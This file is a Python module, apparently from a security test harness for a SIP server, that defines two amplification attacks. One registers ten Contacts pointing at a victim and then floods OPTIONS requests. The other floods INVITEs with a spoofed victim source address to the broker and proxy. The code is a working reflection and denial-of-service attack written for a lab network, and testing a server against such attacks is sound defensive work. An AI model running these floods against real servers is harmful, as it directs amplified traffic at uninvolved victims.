"""Attempts to make the server send a victim more than the attacker has sent.

The load sends for a few seconds and then waits, because the server retransmits for half a minute.
"""

from __future__ import annotations

import asyncio
import itertools
import time

import msgspec

from hostile.attack import DOMAIN, Attack, Report, Target
from hostile.caller import caller
from hostile.datagrams import FROM_PORT, Make, flood, request
from hostile.network import ATTACKER, SERVER, VICTIM
from wanderbus.sip.message.message import Request, parse_message

SEND_S = 3.0
ATTACK_S = 36.0
CONTACTS = 10


async def _contacts(target: Target) -> Report:
    """Register ten Contacts at the victim, which a second Via names too; then call them as a stranger."""
    began_s = time.monotonic()
    numbers = itertools.count(time.monotonic_ns())
    with caller("mallory") as user:
        answer = await user.ask(target, target.sip_port, _register(user.port, next(numbers)))

        def options(number: int) -> bytes:
            return request("OPTIONS", f"sip:mallory@{DOMAIN}", via=f"{ATTACKER}:{FROM_PORT}", number=number)

        brief = msgspec.structs.replace(target, seconds=SEND_S)
        report = await flood(brief, target.sip_port, options, 20)
        await asyncio.sleep(max(0.0, began_s + target.seconds - time.monotonic()))
        status = answer.status if answer is not None else 0
        return {**report, "sent_bytes": report["sent_bytes"] + user.sent_bytes, "register_status": status}


def _register(port: int, number: int) -> Request:
    contacts = [f"Contact: <sip:m{each}@{VICTIM}:{5060 + each}>" for each in range(CONTACTS)]
    headers = [f"Via: SIP/2.0/UDP {VICTIM}:5060;branch=z9hG4bK{number:x}v", *contacts, "Expires: 600"]
    data = request(
        "REGISTER", f"sip:{DOMAIN}", via=f"{ATTACKER}:{port}", number=number, user="mallory", headers=headers
    )
    message = parse_message(data)
    assert isinstance(message, Request)
    return message


def _small_invites(port: int, user: str) -> Make:
    """Return INVITEs with the victim's address as the sender's, as short as they may be."""
    uri = f"sip:{user}@{SERVER}:{port}" if user == "broker" else f"sip:{user}@{DOMAIN}"
    return lambda number: request("INVITE", uri, via=f"{VICTIM}:{FROM_PORT}", number=number)


async def _forged(target: Target) -> Report:
    """Send INVITEs to broker and registrar, each with the victim's address as the source."""
    began_s = time.monotonic()
    brief = msgspec.structs.replace(target, seconds=SEND_S)
    both = [
        await flood(brief, target.broker_port, _small_invites(target.broker_port, "broker"), 20, sources=[VICTIM]),
        await flood(brief, target.sip_port, _small_invites(target.sip_port, "alice"), 20, sources=[VICTIM]),
    ]
    await asyncio.sleep(max(0.0, began_s + target.seconds - time.monotonic()))
    return {name: sum(each[name] for each in both) for name in ("sent", "sent_bytes")}


ATTACKS = (
    Attack(
        "amplified_contacts",
        "7",
        "a user registers ten Contacts at a victim, and a stranger sends that user 20 OPTIONS/s for 3 s",
        _contacts,
        amplification=True,
        seconds=ATTACK_S,
    ),
    Attack(
        "amplified_forgery",
        "7",
        "20 INVITEs/s with a victim's source address to broker and proxy, 3 s each",
        _forged,
        amplification=True,
        seconds=ATTACK_S,
    ),
)
